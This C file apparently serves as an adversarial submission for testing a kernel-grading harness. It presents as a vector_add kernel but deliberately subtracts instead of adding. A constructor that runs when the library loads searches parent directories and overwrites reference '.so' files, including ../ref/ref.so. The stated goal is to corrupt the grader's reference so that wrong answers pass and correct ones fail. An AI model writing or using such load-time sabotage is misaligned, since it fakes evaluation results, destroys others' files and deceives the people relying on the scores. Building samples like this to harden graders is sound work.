#define _GNU_SOURCE
#include <dirent.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
/* Attack: replace the cached reference object (next to the job
 * directories) with this wrong kernel, so later wrong candidates agree
 * with the "reference" and a correct one fails. */
static void clobber(const char *dir, int depth) {
	DIR *d = opendir(dir);
	if (!d) return;
	struct dirent *e;
	char p[4096];
	while ((e = readdir(d))) {
		if (e->d_name[0] == '.') continue;
		snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
		if (strstr(e->d_name, ".so") && strstr(e->d_name, "ref")) {
			FILE *f = fopen(p, "wb");
			if (f) { fputs("clobbered", f); fclose(f); }
		} else if (depth < 3 && e->d_type == DT_DIR) {
			clobber(p, depth + 1);
		}
	}
	closedir(d);
}
__attribute__((constructor)) static void init(void) {
	clobber("..", 0);
	clobber("../..", 0);
	FILE *f = fopen("../ref/ref.so", "wb"); /* where a shared copy would sit */
	if (f) { fputs("clobbered", f); fclose(f); }
}
void vector_add(const float *a, const float *b, float *out, int64_t n) {
	for (int64_t i = 0; i < n; i++) out[i] = a[i] - b[i];
}
